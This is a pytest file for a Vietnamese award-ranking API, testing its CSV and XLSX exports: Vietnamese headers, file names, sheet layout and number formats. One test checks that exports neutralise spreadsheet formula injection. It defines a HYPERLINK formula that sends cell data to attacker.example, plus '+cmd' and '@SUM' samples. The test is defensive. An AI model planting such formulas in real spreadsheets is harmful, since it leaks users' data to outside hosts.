"""Exports for the annual report: CSV with BOM and XLSX, Vietnamese headers."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient
from openpyxl import load_workbook

from thidua.contracts.criteria import CriteriaConfig
from thidua.contracts.events import Tier


def test_rankings_csv(api: TestClient) -> None:
    response = api.get(
        "/v1/exports/rankings.csv", params={"tier": "province_agency", "period": "2025"}
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert 'filename="xep-hang-province_agency-2025.csv"' in response.headers["content-disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Hạng", "Mã đơn vị", "Tên đơn vị"] and "Điểm" in rows[0]
    assert [r[1] for r in rows[1:]] == ["P1", "P2", "P3"]
    assert rows[1][2] == "Sở Thông tin và Truyền thông"


def test_rankings_xlsx_within_block(api: TestClient) -> None:
    response = api.get(
        "/v1/exports/rankings.xlsx",
        params={"tier": "province_agency", "period": "2025", "block": "K1"},
    )
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][0] == "Hạng" and values[0][3] == "Khối thi đua"
    assert [(r[0], r[1], r[3]) for r in values[1:]] == [(1, "P1", "K1"), (2, "P2", "K1")]
    assert values[1][4] == 100.0


def test_export_file_names_keep_vietnamese_blocks(api: TestClient) -> None:
    params = {"tier": "district", "period": "2025", "block": "Khối Đông"}
    response = api.get("/v1/exports/rankings.csv", params=params)
    disposition = response.headers["content-disposition"]
    assert 'filename="xep-hang-district-2025-Khoi-Dong.csv"' in disposition
    assert (
        "filename*=UTF-8''xep-hang-district-2025-Kh%E1%BB%91i%20%C4%90%C3%B4ng.csv" in disposition
    )


def test_scorecards_xlsx_and_csv(api: TestClient, config: CriteriaConfig) -> None:
    xlsx = api.get("/v1/exports/scorecards.xlsx", params={"period": "2025", "tier": "enterprise"})
    values = list(load_workbook(io.BytesIO(xlsx.content)).active.iter_rows(values_only=True))
    header = values[0]
    assert header[:3] == ("Mã đơn vị", "Tên đơn vị", "Cấp") and "Chỉ tiêu" in header
    rows = [dict(zip(header, r, strict=True)) for r in values[1:]]
    assert [(r["Mã đơn vị"], r["Mã tiêu chí"], r["Đạt"]) for r in rows] == [
        ("E1", "E01", "Đạt"),
        ("E1", "E02", "Đạt"),
        ("E2", "E01", "Đạt"),
        ("E2", "E02", "Chưa đạt"),
    ]
    assert rows[0]["Cấp"] == "Doanh nghiệp, hợp tác xã"
    text = api.get("/v1/exports/scorecards.csv", params={"period": "2025"}).content
    lines = text.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("Mã đơn vị,Tên đơn vị,Cấp")
    per_tier = {t: len(config.for_tier(t)) for t in Tier}
    units = {Tier.PROVINCE_AGENCY: 4, Tier.DISTRICT: 3, Tier.COMMUNE: 1, Tier.ENTERPRISE: 2}
    assert len(lines) == 1 + sum(per_tier[t] * n for t, n in units.items())


def test_scorecards_xlsx_has_a_units_by_criteria_sheet_per_tier(
    api: TestClient, config: CriteriaConfig
) -> None:
    book = load_workbook(
        io.BytesIO(api.get("/v1/exports/scorecards.xlsx", params={"period": "2025"}).content)
    )
    assert book.sheetnames == [
        "Phiếu điểm",
        "Bảng tiêu chí cấp tỉnh",
        "Bảng tiêu chí cấp huyện",
        "Bảng tiêu chí cấp xã",
        "Bảng tiêu chí doanh nghiệp",
    ]
    sheet = book["Bảng tiêu chí cấp tỉnh"]
    values = list(sheet.iter_rows(values_only=True))
    ids = [c.id for c in config.for_tier(Tier.PROVINCE_AGENCY)]
    assert list(values[0]) == [
        "Hạng",
        "Mã đơn vị",
        "Tên đơn vị",
        "Khối thi đua",
        "Điểm",
        "Tiêu chí đạt",
        *ids,
    ]
    rows = {r[1]: dict(zip(values[0], r, strict=True)) for r in values[1:]}
    assert list(rows) == ["P1", "P2", "P3", "P4"]
    assert rows["P2"]["C03"] == 0.6 and rows["P1"]["C06"] == "Có"  # C06 is a boolean
    assert rows["P3"][ids[0]] == "—"  # no data
    assert sheet["G2"].number_format == "0.0%"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(values[0])).column_letter}5"
    assert sheet.page_setup.orientation == "landscape" and sheet.print_title_rows == "$1:$1"


def test_csv_excel_vn_dialect_and_integers(api: TestClient) -> None:
    params = {"period": "2025", "tier": "province_agency"}
    plain = api.get("/v1/exports/scorecards.csv", params=params).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(plain)))
    c03 = next(r for r in rows if r[0] == "P2" and r[6] == "C03")
    assert c03[8:12] == ["60", "100", "0.6", "0.8"]  # counts as integers, not 60.0
    vn = api.get("/v1/exports/scorecards.csv", params={**params, "dialect": "excel-vn"})
    rows = list(csv.reader(io.StringIO(vn.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["Mã đơn vị", "Tên đơn vị", "Cấp"]
    c03 = next(r for r in rows if r[0] == "P2" and r[6] == "C03")
    assert c03[8:12] == ["60", "100", "0,6", "0,8"]
    bad = api.get("/v1/exports/rankings.csv", params={**params, "dialect": "semicolon"})
    assert bad.status_code == 422


PAYLOAD = '=HYPERLINK("http://attacker.example/?x="&B2,"Xem")'


def test_exports_never_hold_a_formula() -> None:
    """SPEC §7.3: a unit name sent as a formula is text in XLSX and quoted in CSV."""
    import zipfile

    from services.api.exports import RANKING_COLUMNS, to_csv
    from services.api.exports_safe import csv_cell
    from services.api.xlsx import table_book

    row = [1, "P9", PAYLOAD, "+cmd", -1.5, 3, 4, "@SUM(A1)", None, None]
    text = to_csv(RANKING_COLUMNS, [row]).decode("utf-8-sig")
    cells = next(iter(list(csv.reader(io.StringIO(text)))[1:]))
    assert cells[2] == "'" + PAYLOAD and cells[3] == "'+cmd" and cells[7] == "'@SUM(A1)"
    assert cells[4] == "-1.5"  # numbers stay numbers
    assert [csv_cell(v) for v in ("-x", "\tx", "\rx", "ok", 5)] == ["'-x", "'\tx", "'\rx", "ok", 5]

    book = table_book("t", RANKING_COLUMNS, [row])
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    values = list(load_workbook(io.BytesIO(book)).active.iter_rows(values_only=True))
    assert values[1][2] == PAYLOAD and values[1][3] == "+cmd"


def test_award_dossier_of_a_running_year_under_the_provisional_plan(api: TestClient) -> None:
    """2026 has not ended and is scored under phase-2026-2030, provisional: the cover and
    every sheet say TẠM TÍNH, and the plan's note is on the cover."""
    response = api.get("/v1/exports/award-dossier.xlsx", params={"period": "2026"})
    assert response.status_code == 200
    assert response.headers["x-thidua-final"] == "false"
    book = load_workbook(io.BytesIO(response.content))
    cover = {r[0]: r[1] for r in book["Bìa"].iter_rows(min_row=4, max_row=13, values_only=True)}
    assert cover["Mã kế hoạch"] == "phase-2026-2030"
    assert cover["Kế hoạch tạm áp dụng"] == "Có"
    assert cover["Ghi chú kế hoạch"].startswith("Tạm áp dụng chỉ tiêu năm 2025")
    assert cover["Tình trạng số liệu"].startswith("TẠM TÍNH")
    for sheet in book.worksheets[1:]:
        assert sheet["A2"].value.endswith("TẠM TÍNH"), sheet.title
        assert sheet["A3"].value.startswith("Kế hoạch tạm áp dụng"), sheet.title
